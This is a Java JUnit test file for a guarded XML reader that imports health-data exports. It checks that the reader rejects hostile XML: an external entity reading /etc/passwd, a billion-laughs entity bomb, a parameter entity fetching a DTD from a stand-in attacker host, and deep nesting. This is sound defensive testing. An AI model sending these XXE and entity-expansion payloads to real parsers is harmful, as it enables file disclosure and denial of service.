package app.wellkeep.ingest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import javax.xml.stream.XMLStreamConstants;
import javax.xml.stream.XMLStreamException;
import javax.xml.stream.XMLStreamReader;

import org.junit.jupiter.api.Test;

import app.wellkeep.ingest.ImportException.Problem;

class SafeXmlTest {

    /** Element names and attribute values in document order, read through the guarded reader. */
    static List<String> read(byte[] xml) {
        List<String> seen = new ArrayList<>();
        XMLStreamReader reader = SafeXml.open(new ByteArrayInputStream(xml));
        try {
            while (reader.hasNext()) {
                if (reader.next() == XMLStreamConstants.START_ELEMENT) {
                    seen.add(reader.getLocalName());
                    for (int i = 0; i < reader.getAttributeCount(); i++) {
                        seen.add(reader.getAttributeValue(i));
                    }
                }
            }
        } catch (XMLStreamException e) {
            throw SafeXml.problem(e);
        }
        return seen;
    }

    static Problem problem(String xml) {
        return problem(xml.getBytes(StandardCharsets.UTF_8));
    }

    static Problem problem(byte[] xml) {
        return assertThrows(ImportException.class, () -> read(xml)).problem();
    }

    @Test
    void readsADocumentWithAnInlineDtdEvenAMalformedOne() {
        String xml = """
                <?xml version="1.0" encoding="UTF-8"?>
                <!DOCTYPE HealthData [
                <!ELEMENT HealthData (ExportDate,Me,(Record|Correlation)*)>
                <!ATTLIST ExportDate value CDATA #REQUIRED>
                <!ELEMENT HealthData (Record)*>
                <!ATTLIST Record type CDATA #REQUIRED unit CDATA #IMPLIED value CDATA>
                ]>
                <HealthData locale="en_US"><Record type="HKQuantityTypeIdentifierHeartRate" value="61"/></HealthData>
                """;
        assertEquals(List.of("HealthData", "en_US", "Record", "HKQuantityTypeIdentifierHeartRate", "61"),
                read(xml.getBytes(StandardCharsets.UTF_8)));
    }

    @Test
    void refusesAnExternalEntity() {
        assertEquals(Problem.ENTITIES, problem("""
                <?xml version="1.0"?>
                <!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <r>&xxe;</r>"""));
    }

    @Test
    void refusesAnEntityInAnAttribute() {
        assertEquals(Problem.ENTITIES, problem("""
                <?xml version="1.0"?>
                <!DOCTYPE r [<!ENTITY x "boom">]>
                <r a="&x;"/>"""));
    }

    @Test
    void refusesAnEntityBombAtOnce() {
        StringBuilder dtd = new StringBuilder("<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        // Refused at the first reference, before any expansion (which would take gigabytes).
        assertEquals(Problem.ENTITIES, problem("<?xml version=\"1.0\"?><!DOCTYPE r [" + dtd + "]><r>&lol9;</r>"));
    }

    @Test
    void refusesAParameterEntity() {
        assertEquals(Problem.ENTITIES, problem("""
                <?xml version="1.0"?>
                <!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>
                <r>&e;</r>"""));
    }

    @Test
    void refusesDeepNesting() {
        String xml = "<a>".repeat(SafeXml.MAX_DEPTH + 1) + "</a>".repeat(SafeXml.MAX_DEPTH + 1);
        assertEquals(Problem.TOO_DEEP, problem(xml));
        // One level less reads.
        String ok = "<a>".repeat(SafeXml.MAX_DEPTH) + "</a>".repeat(SafeXml.MAX_DEPTH);
        assertEquals(SafeXml.MAX_DEPTH, read(ok.getBytes(StandardCharsets.UTF_8)).size());
    }

    @Test
    void refusesTextThatIsNotUtf8() {
        byte[] latin1 = "<r a=\"Zürich\"/>".getBytes(StandardCharsets.ISO_8859_1);
        assertEquals(Problem.NOT_UTF8, problem(latin1));
    }

    @Test
    void saysATruncatedFileEndsEarly() {
        assertEquals(Problem.TRUNCATED, problem("<HealthData><Record type=\"x\"/><Record typ"));
        assertEquals(Problem.TRUNCATED, problem("<HealthData><Record type=\"x\"/>"));
    }

    @Test
    void saysBrokenXmlIsMalformed() {
        assertEquals(Problem.MALFORMED, problem("<a><b></a></b>"));
        assertEquals(Problem.MALFORMED, problem("<a>\u0001</a>"));
    }
}
